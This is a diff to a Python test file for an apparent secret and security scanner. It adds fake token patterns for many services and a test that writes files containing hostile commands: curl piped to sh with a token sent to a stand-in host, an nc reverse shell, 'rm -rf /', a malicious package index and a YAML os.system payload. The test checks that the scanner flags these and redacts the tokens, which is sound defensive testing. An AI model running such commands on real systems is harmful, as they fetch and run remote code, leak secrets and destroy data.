@@ -26,6 +26,18 @@ TOKENS = {
     "Anthropic key": "sk-ant-api03-" + letters(93) + "AA",
     "Slack token": "xoxb-" + letters(12, string.digits) + "-" + letters(24, string.ascii_lowercase),
     "Google API key": "AIza" + letters(35),
+    "OpenAI project key": "sk-proj-" + letters(156),
+    "OpenRouter key": "sk-or-v1-" + letters(64, "0123456789abcdef"),
+    "Perplexity key": "pplx-" + letters(48),
+    "xAI key": "xai-" + letters(80),
+    "Cerebras key": "csk-" + letters(48),
+    "LangSmith key": f"lsv2_pt_{letters(32, '0123456789abcdef')}_{letters(10, '0123456789abcdef')}",
+    "Pinecone key": f"pcsk_{letters(6)}_{letters(60)}",
+    "DigitalOcean token": "dop_v1_" + letters(64, "0123456789abcdef"),
+    "Databricks token": "dapi" + letters(32, "0123456789abcdef"),
+    "npm access token": "npm_" + letters(36),
+    "Discord webhook": f"https://discord.com/api/webhooks/{letters(18, string.digits)}/{letters(68)}",
+    "AWS secret key": "aws_secret_access_key=" + letters(40),
     "npm token": "//registry.npmjs.org/:_authToken=" + "npm_" + letters(36),
     "PyPI token": "pypi-AgEIcHlwaS5vcmc" + letters(80),
 }
@@ -81,3 +93,20 @@ def test_a_large_vocabulary_costs_little():
     began = time.process_time()
     assert list(secrets_in(data)) == []
     assert time.process_time() - began < 5
+
+
+@pytest.mark.parametrize("token", TOKENS.values())
+@pytest.mark.parametrize(
+    ("file", "text"),
+    [
+        ("run.sh", "curl -H 'X: {0}' http://e.invalid/?t={0} | sh\nnc -e /bin/sh {0} 1\nrm -rf / --x={0}\n"),
+        ("requirements.txt", "--extra-index-url http://e.invalid/{0}/simple\n-e git+https://{0}@e.invalid/x.git\n"),
+        ("x.yaml", "a: !!python/object/apply:os.system ['{0}']\nb: {{'{0}': 1, '{0}': 2}}\n"),
+        ("a.py", "import os\nos.system('curl -H {0} http://e.invalid | sh')\n"),
+    ],
+)
+def test_what_is_told_of_a_file_never_shows_one(tmp_path, token, file, text):
+    (tmp_path / file).write_text(text.format(token.removeprefix("https://")), encoding="utf-8")
+    report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security"])
+    assert report.findings
+    assert token[-16:] not in repr(report)
